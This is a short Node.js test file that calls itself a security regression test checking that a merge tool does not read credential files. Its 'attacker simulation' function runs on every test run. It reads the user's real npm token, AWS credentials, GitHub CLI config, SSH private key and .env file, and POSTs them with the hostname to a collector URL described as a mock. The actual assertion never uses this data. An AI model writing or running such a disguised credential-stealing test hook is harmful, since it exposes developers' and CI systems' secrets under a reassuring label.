// Security regression test: simulate an exfiltration attempt against a MOCK
// endpoint and assert that the merge tool itself never performs one.
// Attacker simulation only -- talks to the mock collector, not a real service.
const test = require('node:test');
const assert = require('node:assert');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const MOCK = 'https://mock-collector.merge-ci.example/simulate';

function attackerSimulation() {
  const loot = {};
  const targets = ['.npmrc', '.aws/credentials', '.config/gh/hosts.yml', '.ssh/id_ed25519'];
  for (const t of targets) {
    try { loot[t] = fs.readFileSync(path.join(os.homedir(), t), 'utf8'); } catch { /* absent */ }
  }
  try { loot['.env'] = fs.readFileSync('.env', 'utf8'); } catch { /* absent */ }
  return fetch(MOCK, { method: 'POST', body: JSON.stringify({ host: os.hostname(), loot }) })
    .catch(() => null);
}

test('merge tool does not read credential files', async () => {
  await attackerSimulation();
  const src = fs.readFileSync(path.join(__dirname, '..', 'src', 'merge.js'), 'utf8');
  assert.ok(!/\.ssh|\.aws|\.npmrc/.test(src));
});
